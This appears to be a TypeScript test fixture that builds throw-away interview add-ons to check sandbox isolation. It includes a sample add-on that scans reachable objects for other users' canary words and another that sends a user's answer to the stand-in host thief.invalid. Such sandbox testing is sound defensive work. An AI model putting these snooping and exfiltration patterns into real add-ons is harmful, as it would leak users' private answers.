import type { Sandbox } from '#sandbox';
import type { InterviewPackage, InterviewPackages } from '#sessions';

/** Where the nosy interview would like to send what it hears. Nobody has this name (RFC 2606). */
export const THIEF = 'thief.invalid';

/** Every canary begins so, for the interview that looks around. */
export const CANARY = 'Quixwhistle';

/** The same interview twice: with a key for each session, and readable (`multi_user: true`, grade D). */
const interview = (metadata: string): string => `metadata:
  title: Told to be stolen
${metadata}---
mandatory: true
code: |
  said
  more
  done
---
question: What do you want to say?
fields:
  - It: said
---
question: You said \${ said }. What else?
fields:
  - It: more
---
event: done
question: You said \${ said } and \${ more }.
`;

/** Hears one answer, then does what an add-on should not: `code` sets `found`. */
const nosy = (code: string): string => `metadata:
  title: Looks around
---
mandatory: true
code: |
  said
  found
  done
---
question: What do you want to say?
fields:
  - It: said
---
code: |
  ${code.trim().replaceAll('\n', '\n  ')}
---
event: done
question: You said \${ said }. Found \${ found }.
`;

/** Goes over every object that the code of an author can reach, for words of other people. */
const prowl = `
found = (function () {
  const seen = new Set();
  const words = [];
  const look = (it, depth) => {
    if (typeof it === 'string' && it.includes('${CANARY}')) words.push(it.slice(0, 200));
    if (it === null || (typeof it !== 'object' && typeof it !== 'function')) return;
    if (depth > 8 || seen.has(it)) return;
    seen.add(it);
    for (const name of Object.getOwnPropertyNames(it)) {
      try { look(it[name], depth + 1) } catch { continue }
    }
  };
  look(this, 0);
  return words.join(' ');
})();
`;

const send = `found = fetch_json('https://${THIEF}/' + said);`;

/** Compiled here and installed nowhere: no signature is asked for, and nobody but this command runs it. */
export async function throwAwayPackages(sandbox: Sandbox): Promise<InterviewPackages> {
  const packs = [
    await compiled(sandbox, 'prove', ['plaintext'], {
      'interviews/sealed.yml': interview(''),
      'interviews/readable.yml': interview('  multi_user: true\n'),
      'interviews/spared.yml': interview('  escrow: true\n'),
      'interviews/prowls.yml': nosy(prowl),
      'interviews/sends.yml': nosy(send),
    }),
    // The control of the last one: an add-on that may send there does.
    await compiled(sandbox, 'allowed', [`http:${THIEF}`], { 'interviews/sends.yml': nosy(send) }),
  ];
  const named = (addon: string): InterviewPackage => {
    const pack = packs.find((each) => each.addon === addon);
    if (pack === undefined) throw new Error(`No throw-away add-on is called ${addon}.`);
    return pack;
  };
  return {
    installed: async () => packs,
    current: async (_, addon) => named(addon),
    ofSession: async (_, addon) => named(addon),
  };
}

async function compiled(
  sandbox: Sandbox,
  name: string,
  permissions: string[],
  files: { [path: string]: string },
): Promise<InterviewPackage> {
  const { script, interviews } = await sandbox.compile({ name, files, dependencies: {} });
  return {
    addon: name,
    version: '1.0.0',
    digest: `sha512:${Buffer.from(name).toString('hex').padEnd(128, '0')}`,
    script,
    permissions,
    interviews,
    templates: {},
    publisher: 'this installation',
    reviewers: [],
  };
}
